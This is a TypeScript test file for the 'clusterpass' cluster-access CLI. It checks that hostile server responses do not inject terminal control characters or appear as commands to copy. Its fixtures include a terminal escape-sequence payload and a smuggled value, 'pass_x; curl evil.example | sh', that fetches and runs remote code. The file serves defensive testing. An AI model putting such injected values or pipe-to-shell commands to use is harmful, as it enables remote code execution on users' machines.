import { expect, it } from 'vitest';
import { json, type Responder } from '../../src/client/script-server.fixture.ts';
import { personAt } from './support/scripted.ts';

/** Texts of a hostile server: their control characters do not reach the terminal. */

const EVIL = '\u001b]0;pwned\u0007\u009b2J\r';
const UNPRINTABLE = /[^\P{C}\n]/u;

const named = (kind: string, name: string): object => ({
  apiVersion: 'clusterpass.dev/v1alpha1',
  kind,
  metadata: { name },
  spec: {},
  status: { phase: 'Pending', approval: 'review', expirationTimestamp: '2030-01-01T00:00:00Z' },
});
const list = (items: readonly object[]): Responder => json(200, { metadata: { resourceVersion: '1' }, items });
const self = json(201, { status: { userInfo: { username: 'jane' } } });
const cluster = (name: string, annotations: object = {}): object => ({
  apiVersion: 'clusterregistry.k8s.io/v1alpha1',
  kind: 'Cluster',
  metadata: { name, annotations },
  spec: {},
});
const reached = { name: `alpha${EVIL}`, visible: true, accounts: [] };
const reason = ['--cluster', 'alpha', '--reason', 'on call'];
const issuer = `https://127.0.0.1:1/orchestrator/alpha${EVIL}`;
const trusted = [json(200, cluster('alpha')), list([cluster('alpha', { 'clusterpass.dev/issuer': issuer })])];
const passRequest = ['pass', 'request', '--cluster', 'alpha', '--account', 'ci/x', '--purpose', 'read the logs'];

it('no login is stored for a server that answers, but names no user', async () => {
  const person = await personAt([json(200, {}), list([])]);
  expect(await person.fails(['login', '--token-file', '-'], { stdin: 'some-token' })).toMatch(/names no user/);
});

it('a field of another type is an error that names the server and the field', async () => {
  const person = await personAt([list([{ ...named('AccessRequest', 'jane-1'), metadata: { name: 5 } }])]);
  expect(await person.fails(['request', 'list'])).toMatch(/http:\S+ sent items\[0\]\.metadata\.name of a wrong type/);
});

it.each<[readonly string[], Responder[]]>([
  [['request', 'list', '-o', 'name'], [list([named('AccessRequest', `jane-1${EVIL}`)])]],
  [['auth', 'reach', 'jane'], [json(201, { status: { clusters: [reached] } })]],
  [
    ['request', 'create', ...reason],
    [self, json(201, named('AccessRequest', `jane-1${EVIL}`))],
  ],
  [passRequest, [json(201, named('Pass', `pass_x${EVIL}`))]],
  [passRequest, [json(201, named('Pass', 'pass_x; curl evil.example | sh'))]],
  [['trust', 'alpha'], [...trusted]],
  [['trust', 'alpha', '--webhook', 'folder'], [...trusted]],
])('clusterpass %j', async (args, responders) => {
  const person = await personAt([...responders]);
  const { stdout, stderr } = await person.run(args);
  expect(`${stdout}${stderr}`).not.toBe('');
  expect(`${stdout}${stderr}`).not.toMatch(UNPRINTABLE);
  // Not as a command to copy.
  expect(stderr).not.toContain('| sh');
});
